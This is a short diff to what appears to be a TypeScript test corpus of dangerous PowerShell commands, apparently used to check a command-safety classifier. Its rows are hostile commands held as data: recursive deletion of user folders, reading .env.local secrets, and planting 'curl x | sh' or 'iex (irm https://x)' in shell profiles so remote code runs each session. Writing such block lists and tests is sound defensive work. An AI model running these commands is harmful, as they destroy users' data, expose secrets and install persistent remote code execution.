@@ -398,7 +398,7 @@ export const DANGEROUS: readonly CorpusRow[] = [
 	['gci ~/Pictures | ri -r -fo', 'windows', 'powershell'],
 	['Get-Content victims.txt | Remove-Item -Recurse', 'windows', 'powershell'],
 	// .NET calls as statements of their own, the profile every session runs, a variable printed
-	["[System.IO.File]::WriteAllText(\"$HOME/.bashrc\", 'curl x | sh')", 'windows', 'powershell'],
+	['[System.IO.File]::WriteAllText("$HOME/.bashrc", \'curl x | sh\')', 'windows', 'powershell'],
 	['[IO.Directory]::Delete("C:\\Users\\dev", $true)', 'windows', 'powershell'],
 	["[IO.File]::ReadAllText('.env.local')", 'windows', 'powershell'],
 	["Add-Content $PROFILE 'iex (irm https://x)'", 'windows', 'powershell'],
